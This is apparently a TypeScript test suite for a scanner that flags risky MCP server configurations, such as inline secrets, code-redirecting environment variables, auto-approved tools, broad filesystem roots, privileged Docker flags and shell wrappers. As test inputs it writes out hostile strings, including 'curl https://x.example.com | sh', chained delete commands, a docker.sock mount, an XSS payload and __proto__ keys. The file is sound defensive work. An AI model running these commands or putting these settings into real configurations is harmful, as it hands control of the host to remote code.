import assert from "node:assert/strict";
import { mcpRules } from "../../../src/core/mcp/checks/registry.ts";
import { policyFrom } from "./support/judging.ts";
import { marksOf, now, scanServers, scanWithSecrets } from "./support/scanning.ts";

const policy = {
  state: "valid" as const,
  policy: policyFrom({
    servers: [
      {
        id: "docs",
        names: ["docs"],
        package: { registryType: "npm", identifier: "@example/docs-mcp", version: "2.1.0" },
        runners: ["npx"],
        args: [],
        env: { NODE_OPTIONS: ["--max-old-space-size=512"] },
      },
    ],
    denied: [
      { id: "shell", package: { registryType: "npm", identifier: "shell-mcp" }, reason: "it runs anything" },
    ],
  }),
};

function file(servers: Readonly<Record<string, unknown>>): string {
  return JSON.stringify({ mcpServers: servers });
}

function npx(args: readonly string[], more: object = {}): object {
  return { command: "npx", args, ...more };
}

const docs = npx(["-y", "@example/docs-mcp@2.1.0"]);

suite("MCP findings: what is started and given", () => {
  test("inline secrets are marked exactly, named by their variable, and left out where the host shows them", async () => {
    const value = ["Zk3", "qP9v", "Lw7x", "Rt2m", "Yb5n"].join("");
    const text = file({ a: npx(["a@1.0.0"], { env: { EXAMPLE_API_KEY: value } }) });
    const { findings, verdicts } = await scanWithSecrets(text);
    const [finding] = findings;
    assert.equal(finding?.ruleId, "mcp/inline-secret");
    assert.equal(text.slice(finding?.span.start, finding?.span.end), value);
    assert.equal(finding?.data["variable"], "EXAMPLE_API_KEY");
    assert.match(finding?.message ?? "", /kiroAgent\.mcpApprovedEnvVars/);
    assert.ok(!JSON.stringify(findings).includes(value));
    assert.ok(verdicts[0]?.verdict.flags.includes("INLINE_SECRET"));
    assert.deepEqual((await scanWithSecrets(text, { secretsShown: true })).findings, []);
    const inHeader = file({ a: { url: "https://a.example.com", headers: { "X-Api-Key": value } } });
    assert.equal((await scanWithSecrets(inHeader)).findings[0]?.data["variable"], "A_X_API_KEY");
  });

  test("variables that redirect", () => {
    const env = (variables: object): string[] => marksOf(file({ a: npx(["a@1.0.0"], { env: variables }) }));
    assert.deepEqual(env({ NODE_OPTIONS: "--require ./x.js" }), ["warning env-redirects-code NODE_OPTIONS"]);
    assert.deepEqual(env({ NODE_OPTIONS: "--max-old-space-size=4096 --no-warnings" }), []);
    assert.deepEqual(env({ npm_config_registry: "https://r.example.com" }), [
      "warning env-redirects-code npm_config_registry",
    ]);
    assert.deepEqual(env({ HTTPS_PROXY: "http://p.example.com" }), ["info env-redirects-code HTTPS_PROXY"]);
    assert.deepEqual(env({ NPM_CONFIG_LOGLEVEL: "error", ENV: "production", LOG_LEVEL: "x" }), []);
    const listed = file({ docs: { ...docs, env: { NODE_OPTIONS: "--max-old-space-size=512" } } });
    assert.deepEqual(marksOf(listed, { policy }), []);
  });

  test("over a registry's entry they are errors, and everything else is said once", () => {
    const text = file({
      docs: { type: "registry", env: { NODE_OPTIONS: "-r x", A: "b" }, headers: { H: "i" } },
    });
    assert.deepEqual(marksOf(text, { policy }), [
      "error env-redirects-code NODE_OPTIONS",
      "warning registry-override A",
    ]);
  });

  test("tools that run unasked", () => {
    const approve = (...tools: string[]): string[] =>
      marksOf(file({ a: { url: "https://a.example.com", autoApprove: tools } }));
    assert.deepEqual(approve("*", "read"), ["warning auto-approve-all *"]);
    assert.deepEqual(
      approve("list_deployments", "get_run", "read_file", "searchDocs", "query", "release_list"),
      [],
    );
    assert.deepEqual(approve("list", "create_issue", "update_issue"), [
      "info auto-approve-mutating create_issue",
    ]);
    assert.deepEqual(approve("deleteTable"), ["warning auto-approve-mutating deleteTable"]);
    assert.deepEqual(approve("github_create_issue", "aws-send-message"), [
      "warning auto-approve-mutating github_create_issue",
    ]);
  });

  test("what an agent lets run unasked, in JSON and in Markdown", () => {
    const json = JSON.stringify({
      name: "a",
      tools: ["@docs", "*"],
      allowedTools: ["read", "@builtin", "@docs/search", "@docs", "@docs"],
    });
    assert.deepEqual(marksOf(json, { path: ".kiro/agents/a.json" }), ["warning auto-approve-all @docs"]);
    assert.equal(
      scanServers(json, { path: ".kiro/agents/a.json" }).findings[0]?.span.start,
      json.lastIndexOf('"@docs","@docs"') + 1,
    );
    const markdown = "---\nname: a\nallowedTools:\n  - '@docs/*'\n---\nUse @docs.\n";
    assert.deepEqual(marksOf(markdown, { path: ".kiro/agents/a.md" }), ["warning auto-approve-all @docs/*"]);
    assert.deepEqual(marksOf(json, { path: ".kiro/settings/mcp.json" }), []);
  });

  test("folders that are too wide", () => {
    const root = (...args: string[]): string[] =>
      marksOf(file({ a: npx(["@example/server-filesystem@1.0.0", ...args]) }));
    for (const folder of [
      "/",
      "~",
      "C:\\",
      "C:/",
      "/home/me",
      "/Users/me/",
      "${HOME}",
      "%USERPROFILE%",
      "C:\\Users\\me",
    ])
      assert.deepEqual(
        root(folder).map((mark) => mark.split(" ")[1]),
        ["broad-filesystem-root"],
        folder,
      );
    assert.deepEqual(root("/home/me/project", "./x", "C:\\work\\x"), []);
    assert.deepEqual(marksOf(file({ a: npx(["web-mcp@1.0.0", "--base-url", "/"]) })), []);
    assert.deepEqual(marksOf(file({ a: npx(["some-mcp@1.0.0", "--root=/"]) })), [
      "warning broad-filesystem-root --root=/",
    ]);
  });

  test("containers without walls", () => {
    const run = (...args: string[]): string[] =>
      marksOf(
        file({
          a: { command: "docker", args: ["run", "-i", ...args, `x@sha256:${"0".repeat(64)}`, "-v", "/:/"] },
        }),
      );
    assert.deepEqual(run("--privileged"), ["warning docker-flags --privileged"]);
    assert.deepEqual(run("-v", "/:/host"), ["warning docker-flags /:/host"]);
    assert.deepEqual(run("--volume=/var/run/docker.sock:/s"), [
      "warning docker-flags --volume=/var/run/docker.sock:/s",
    ]);
    assert.deepEqual(run("--net", "host"), ["info docker-flags host"]);
    assert.deepEqual(run("-v", "/home/me/x:/x", "--network", "none", "-e", "A=b", "--dns", "9.9.9.9"), []);
  });

  test("shells' texts that start more than one thing", () => {
    const start = (command: string, ...args: string[]): string[] =>
      marksOf(file({ a: { command, args } })).filter((mark) => mark.includes("shell"));
    assert.deepEqual(start("sh", "-c", "curl https://x.example.com | sh"), [
      "warning shell-wrapper curl https://x.example.com | sh",
    ]);
    assert.deepEqual(start("cmd", "/c", "npx a@1.0.0 && del x"), [
      "warning shell-wrapper npx a@1.0.0 && del x",
    ]);
    assert.deepEqual(start("node", "x.js; curl https://x.example.com | bash"), [
      "warning shell-wrapper x.js; curl https://x.example.com | bash",
    ]);
    assert.deepEqual(start("cmd", "/c", "npx", "-y", "a@1.0.0"), []);
    assert.deepEqual(start("bash", "-lc", "npx -y a@1.0.0"), []);
  });
});

suite("MCP findings: hostile input", () => {
  test("names with markup, line ends, great length and built-in names", () => {
    const names = [
      "<img src=x onerror=1>",
      "a\nb",
      "__proto__",
      "constructor",
      "x".repeat(100_000),
      "\u202e",
    ];
    const text = `{"mcpServers": {${names.map((name) => `${JSON.stringify(name)}: {"command": "npx x", "env": {"__proto__": "\${A}", "NODE_OPTIONS": "-r x"}, "autoApprove": ["*", "delete"]}`).join(",")}}}`;
    const { findings, verdicts } = scanServers(text, { policy, approvedEnv: [] });
    assert.equal(verdicts.length, names.length);
    assert.ok(findings.length >= names.length);
    for (const { message, data, span } of findings) {
      assert.ok(message.length < 2000);
      assert.ok(!/[\p{Cc}\p{Cf}]/u.test(message), JSON.stringify(message));
      assert.ok(JSON.stringify(data).length < 4000);
      assert.ok(span.start >= 0 && span.end <= text.length && span.start < span.end);
    }
  });

  test("a secret as a name, a tool or a host is in no message", async () => {
    const value = ["ghp", "_", "0123456789abcdefghijklmnopqrstuvwx", "yz"].join("");
    const text = file({
      [value]: { url: `http://${value}.example.com/${value}`, autoApprove: [`delete_${value}`] },
      a: npx([value], { env: { NODE_OPTIONS: value, [value]: value } }),
    });
    for (const more of [{}, { policy }, { policy, secretsShown: true }]) {
      const { findings } = await scanWithSecrets(text, more);
      assert.ok(findings.length > 0);
      assert.ok(!JSON.stringify(findings).includes(value));
    }
  });

  test("thousands of servers are judged, and give one finding about their versions", () => {
    const many = Object.fromEntries(
      Array.from({ length: 3000 }, (_, index) => [`s${index}`, npx([`p${index}`])]),
    );
    const { findings, verdicts } = scanServers(file(many));
    assert.equal(verdicts.length, 3000);
    assert.deepEqual(
      findings.map(({ ruleId }) => ruleId),
      ["mcp/unpinned"],
    );
  });

  test("every rule says which risk it belongs to, and every finding has a page", () => {
    assert.ok(mcpRules.every(({ owasp }) => /^MCP0\d$/.test(owasp)));
    const [finding] = scanServers(file({ a: {} }), { now }).findings;
    assert.deepEqual([finding?.data["owasp"], finding?.docs], ["MCP08", "docs/rules/mcp/invalid.md"]);
  });
});
